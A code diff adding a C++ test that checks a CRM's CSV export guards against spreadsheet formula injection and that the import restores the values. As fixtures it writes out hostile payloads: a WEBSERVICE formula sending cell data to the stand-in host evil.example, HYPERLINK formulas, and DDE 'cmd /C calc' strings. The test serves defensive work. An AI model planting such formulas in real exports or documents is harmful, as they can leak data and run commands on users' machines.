@@ -2,6 +2,8 @@
 // and the round trip export -> import that keeps every value.
 #include <doctest/doctest.h>
 
+#include <regex>
+
 #include "core/demo.hpp"
 #include "core/io/export.hpp"
 #include "core/io/import.hpp"
@@ -457,6 +459,99 @@ TEST_CASE("round trip of contacts: the name column becomes last and first name; 
   for (size_t i = 0; i < before; ++i)
     check_same_values(d.ws, *d.ws.item(d.ws.item_ids("contact")[i]), *items[i],
                       {"LAST_NAME", "NAME", "POST", "PHONE", "EMAIL", "COMPANY_ID", "BIRTHDATE", "UF_CRM_SECRET"});
+}
+
+namespace {
+
+// A cell a spreadsheet would run: =, @, tab or CR first, or + or - followed by more than a number, phone or amount.
+bool runs_as_formula(const std::string& cell) {
+  if (cell.empty()) return false;
+  const char c = cell.front();
+  if (c == '=' || c == '@' || c == '\t' || c == '\r') return true;
+  if (c != '+' && c != '-') return false;
+  static const std::regex plain(R"([-+][0-9 ()+,.-]*( [A-Z]{3})?)");
+  return !std::regex_match(cell, plain);
+}
+
+}  // namespace
+
+TEST_CASE("CSV export: no cell runs as a formula, whatever kind of value or label it shows; the import reads them back") {
+  Demo d;
+  const std::string payload = "=WEBSERVICE(\"evil.example/?\"&A1)";  // passes for a web address
+  // A field label is the header row's cell.
+  d.field("contact", "UF_CRM_SITE", FieldType::Link, {"=HYPERLINK(\"http://evil.example\")", "@SUM(1)"});
+  d.field("contact", "UF_CRM_TAB", FieldType::String, {"-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"});
+  d.field("contact", "UF_CRM_CR", FieldType::String, {"\tTab label", "\rCR label"});
+  d.list_field("contact", "UF_CRM_KIND", {"Вид", "Kind"}, {{"x", {"+SUM(1+1)", "+SUM(1+1)"}}});
+  // The linked company's title and the responsible user's name are shown by name.
+  REQUIRE(d.admin.dispatch(SetField{"CO1", "TITLE", Value("@SUM(1+1)*cmd|' /C calc'!A0")}, kNow).ok());
+  REQUIRE(d.admin.dispatch(PutUser{User{"u2", "-1+HYPERLINK(\"http://evil.example\")", "d2", false, {"manager"}, true}}, kNow).ok());
+  const std::vector<std::pair<std::string, Value>> values = {
+      {"UF_CRM_SITE", Value(payload)},
+      {"EMAIL", Value(Value::List{Value("=1+1@evil.example"), Value("ok@example.com")})},
+      {"PHONE", Value(Value::List{Value("+7 912 555-10-01"), Value("-1-1 (555)")})},
+      {"UF_CRM_TAB", Value("\t=1+1")},
+      {"UF_CRM_CR", Value("\r=1+1")},
+      {"UF_CRM_KIND", Value("x")},
+      {"POST", Value("'=already guarded by hand")},
+      {"COMPANY_ID", Value("CO1")},
+      {"ASSIGNED_BY_ID", Value("u2")},
+  };
+  for (const auto& [f, v] : values) {
+    Status st = d.admin.dispatch(SetField{"C1", f, v, {}}, kNow);
+    REQUIRE_MESSAGE(st.ok(), f << ": " << st.code << " " << st.message);
+  }
+  // A plain phone and a negative amount stay data (no apostrophe to show in the spreadsheet).
+  CHECK(!formula_like("+7 912 555-10-01"));
+  CHECK(!formula_like("-15"));
+  CHECK(!formula_like("-0,05 EUR"));
+  CHECK(formula_like("-0,05 EUR+A1"));
+  CHECK(formula_like("'=1"));  // its apostrophe would be taken for a guard
+  CHECK(!formula_like("'-1"));
+
+  const std::vector<std::string> columns{"TITLE",      "POST",      "PHONE",      "EMAIL",         "COMPANY_ID",
+                                         "UF_CRM_SITE", "UF_CRM_TAB", "UF_CRM_CR", "UF_CRM_KIND", "ASSIGNED_BY_ID"};
+  for (Lang lang : {Lang::Ru, Lang::En}) {
+    CAPTURE(lang == Lang::Ru ? "ru" : "en");
+    const auto table = export_table(d.ws, "u1", "contact", {"C1"}, columns, lang);
+    REQUIRE(table.size() == 2);
+    for (const auto& row : table)
+      for (const auto& cell : row) CHECK_MESSAGE(!runs_as_formula(cell), cell);
+    const auto& header = table[0];
+    CHECK(header[6] == (lang == Lang::Ru ? "'=HYPERLINK(\"http://evil.example\")" : "'@SUM(1)"));
+    CHECK(header[7] == (lang == Lang::Ru ? "'-2+3+cmd|' /C calc'!A0" : "'+cmd|' /C calc'!A0"));
+    CHECK(header[8] == (lang == Lang::Ru ? "'\tTab label" : "'\rCR label"));
+    const auto& row = table[1];
+    CHECK(row[2] == "''=already guarded by hand");
+    CHECK(row[3] == "+7 912 555-10-01, -1-1 (555)");  // phones hold no letters: no formula
+    CHECK(row[4] == "'=1+1@evil.example, ok@example.com");
+    CHECK(row[5] == "'@SUM(1+1)*cmd|' /C calc'!A0");
+    CHECK(row[6] == "'" + payload);
+    CHECK(row[7] == "'\t=1+1");
+    CHECK(row[8] == "'\r=1+1");
+    CHECK(row[9] == "'+SUM(1+1)");
+    CHECK(row[10] == "'-1+HYPERLINK(\"http://evil.example\")");
+
+    // Through the CSV text, the cells read back as written, and the import drops the apostrophes again.
+    const std::string csv = export_csv(d.ws, "u1", "contact", {"C1"}, columns, lang);
+    CsvTable t = parse_csv(csv);
+    CHECK(t.header == header);
+    REQUIRE(t.rows.size() == 1);
+    CHECK(t.rows[0].fields == row);
+    ImportOptions o = options_for(d.ws, "contact", t.header);
+    o.columns = {"LAST_NAME", "NAME", "POST", "PHONE", "EMAIL", "COMPANY_ID", "UF_CRM_SITE", "UF_CRM_TAB", "UF_CRM_CR",
+                 "UF_CRM_KIND", "ASSIGNED_BY_ID"};
+    ImportPlanner p(d.ws, "u1", o, t.header);
+    plan_table(d.ws, p, t);
+    for (const auto& r : p.rejections()) MESSAGE(r.row << " " << r.column_name << " " << r.code << " " << r.message);
+    REQUIRE(p.rejections().empty());
+    const size_t before = d.ws.item_ids("contact").size();
+    REQUIRE(apply_plan(d.admin, p, DuplicateAction::Create, kNow) == 0);
+    auto items = d.new_items("contact", before);
+    REQUIRE(items.size() == 1);
+    check_same_values(d.ws, *d.ws.item("C1"), *items[0],
+                      {"POST", "PHONE", "EMAIL", "COMPANY_ID", "UF_CRM_SITE", "UF_CRM_KIND", "ASSIGNED_BY_ID"});
+  }
 }
 
 TEST_CASE("100,000 rows are planned and imported in chunks") {
